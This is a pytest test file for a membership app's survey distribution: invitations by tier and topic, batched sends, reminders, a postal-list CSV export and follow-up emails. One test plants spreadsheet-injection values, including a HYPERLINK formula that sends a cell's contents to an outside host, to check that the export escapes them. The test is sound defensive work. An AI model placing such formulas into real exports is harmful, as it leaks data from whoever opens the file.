"""Invitations, batches, reminders, the post list and telling participants."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from sqlalchemy import select

from engage.audit.models import AuditEvent
from engage.extensions import db
from engage.membership.consent import withdraw_member
from engage.membership.models import ConsentMethod
from engage.membership.models import ContactChannel
from engage.membership.models import Tier
from engage.surveys import answering
from engage.surveys import distribution
from engage.surveys import findings
from engage.surveys.distribution import InviteCriteria
from engage.surveys.models import Delivery
from engage.surveys.models import Invitation
from engage.surveys.models import ResponseSource
from tests.surveys.helpers import NOW
from tests.surveys.helpers import full_answers
from tests.surveys.helpers import make_member
from tests.surveys.helpers import make_survey
from tests.surveys.helpers import make_topic


def _invitations(survey: Any) -> list[Invitation]:
    return list(
        db.session.scalars(
            select(Invitation)
            .where(Invitation.survey_id == survey.id)
            .order_by(Invitation.id)
        )
    )


def test_invites_silver_members_interested_in_a_topic(
    cast: dict[str, Any], outbox: Any
) -> None:
    topic = make_topic()
    other = make_topic("Cancer")
    wanted = make_member("Sam", "sam@example.org", topics=[topic])
    make_member("Gil", "gil@example.org", tier=Tier.GOLD, topics=[topic])
    make_member("Ola", "ola@example.org", topics=[other])
    make_member("Pending", "p@example.org", topics=[topic], status="pending")
    make_member("No consent", "nc@example.org", topics=[topic], consents=())
    post = make_member(
        "Paper Pat",
        None,
        topics=[topic],
        consents=(ContactChannel.POST,),
        address="1 High St",
        postcode="LS1 4AP",
    )
    survey = make_survey(cast["officer"])
    criteria = InviteCriteria(tier=Tier.SILVER, topic_id=topic.id)
    plan = distribution.plan_invitations(survey, criteria)
    assert (plan.by_email, plan.by_post, plan.cannot_contact) == (1, 1, 1)
    distribution.create_invitations(survey, criteria, actor=cast["officer"], now=NOW)
    db.session.commit()
    invitations = _invitations(survey)
    assert {(i.member_id, i.delivery) for i in invitations} == {
        (wanted.id, Delivery.EMAIL),
        (post.id, Delivery.POST),
    }
    # Choosing again invites nobody twice.
    again = distribution.plan_invitations(survey, criteria)
    assert (again.by_email, again.already_invited) == (0, 2)
    assert outbox() == []  # nothing is sent until the batch is sent


def test_invitations_are_sent_in_batches_with_a_working_link(
    cast: dict[str, Any], outbox: Any
) -> None:
    for n in range(5):
        make_member(f"Member {n}", f"m{n}@example.org")
    survey = make_survey(cast["officer"])
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    assert (
        distribution.send_invitations(survey, actor=cast["officer"], now=NOW, limit=2)
        == 2
    )
    db.session.commit()
    progress = distribution.send_progress(survey)
    assert (progress.sent, progress.total) == (2, 5)
    distribution.send_invitations(survey, actor=cast["officer"], now=NOW, limit=10)
    db.session.commit()
    assert distribution.send_progress(survey).sent == 5
    messages = outbox()
    assert len(messages) == 5
    link = re.search(r"http://engage.test/s/(\S+)", messages[0].body_text)
    assert link
    target = answering.find_target(link.group(1))
    assert target.survey.id == survey.id
    assert target.invitation is not None


def test_member_who_withdraws_after_being_chosen_gets_nothing(
    cast: dict[str, Any], outbox: Any
) -> None:
    member = make_member()
    survey = make_survey(cast["officer"])
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    withdraw_member(member, method=ConsentMethod.SELF_SERVICE, actor="member", now=NOW)
    assert distribution.send_invitations(survey, actor=cast["officer"], now=NOW) == 0
    db.session.commit()
    assert outbox() == []
    assert _invitations(survey) == []  # dropped, so the rate stays honest


def test_member_who_withdraws_after_invitation_gets_no_reminder(
    cast: dict[str, Any], outbox: Any
) -> None:
    """docs/security.md D4: the next scheduled send excludes them."""
    stays = make_member("Stays", "stays@example.org")
    leaves = make_member("Leaves", "leaves@example.org")
    survey = make_survey(cast["officer"])
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    distribution.send_invitations(survey, actor=cast["officer"], now=NOW)
    db.session.commit()
    withdraw_member(leaves, method=ConsentMethod.SELF_SERVICE, actor="member", now=NOW)
    db.session.commit()
    batch = distribution.send_reminders(survey, actor=cast["officer"], now=NOW)
    db.session.commit()
    assert batch.sent == 1
    reminders = [m for m in outbox() if m.subject.startswith("Reminder")]
    assert [m.to_address for m in reminders] == [stays.email]
    by_member = {i.member_id: i for i in _invitations(survey)}
    assert by_member[stays.id].reminded_at is not None
    assert by_member[leaves.id].reminded_at is None
    # Reminding again sends nothing more.
    assert distribution.send_reminders(survey, actor=cast["officer"], now=NOW).sent == 0


def test_reminders_skip_members_who_answered(cast: dict[str, Any], outbox: Any) -> None:
    answered = make_member("Done", "done@example.org")
    make_member("Not yet", "notyet@example.org")
    survey = make_survey(cast["officer"])
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    distribution.send_invitations(survey, actor=cast["officer"], now=NOW)
    invitation = next(i for i in _invitations(survey) if i.member_id == answered.id)
    answering.record_response(
        survey,
        full_answers(survey),
        source=ResponseSource.WEB,
        now=NOW,
        invitation=invitation,
    )
    db.session.commit()
    assert distribution.count_due_reminders(survey) == 1
    distribution.send_reminders(survey, actor=cast["officer"], now=NOW)
    db.session.commit()
    reminders = [m for m in outbox() if m.subject.startswith("Reminder")]
    assert [m.to_address for m in reminders] == ["notyet@example.org"]


def test_post_list_export_is_formula_safe_and_audited(cast: dict[str, Any]) -> None:
    make_member(
        '=HYPERLINK("http://x/?"&A1,"x")',
        None,
        consents=(ContactChannel.POST,),
        address="+SUM(1,1) Road",
        postcode="LS1 4AP",
    )
    survey = make_survey(cast["officer"])
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    filename, mimetype, content = distribution.export_post_list(
        survey, "csv", actor=cast["officer"], now=NOW
    )
    db.session.commit()
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == list(distribution.POST_LIST_COLUMNS)
    assert rows[1][1].startswith("'=")
    assert rows[1][2].startswith("'+")
    assert filename == f"survey-{survey.id}-post-list.csv"
    assert mimetype.startswith("text/csv")
    event = db.session.scalars(
        select(AuditEvent).where(AuditEvent.action == "export")
    ).one()
    assert "post list: 1 row (" in event.summary


def test_tell_participants_emails_those_who_answered_and_may_be_contacted(
    cast: dict[str, Any], outbox: Any
) -> None:
    answered = make_member("Answered", "a@example.org")
    left = make_member("Answered then left", "left@example.org")
    make_member("Silent", "s@example.org")
    survey = make_survey(cast["officer"], anonymous=True)
    distribution.create_invitations(
        survey, InviteCriteria(), actor=cast["officer"], now=NOW
    )
    distribution.send_invitations(survey, actor=cast["officer"], now=NOW)
    for invitation in _invitations(survey):
        if invitation.member_id in (answered.id, left.id):
            answering.record_response(
                survey,
                full_answers(survey),
                source=ResponseSource.WEB,
                now=NOW,
                invitation=invitation,
            )
    withdraw_member(left, method=ConsentMethod.SELF_SERVICE, actor="member", now=NOW)
    findings.publish_findings(survey, True, actor=cast["officer"], now=NOW)
    db.session.commit()
    assert distribution.tell_participants(survey, actor=cast["officer"], now=NOW) == 1
    db.session.commit()
    told = [m for m in outbox() if m.subject.startswith("You said, we did")]
    assert [m.to_address for m in told] == ["a@example.org"]
    assert f"/surveys/{survey.id}/you-said-we-did" in told[0].body_text
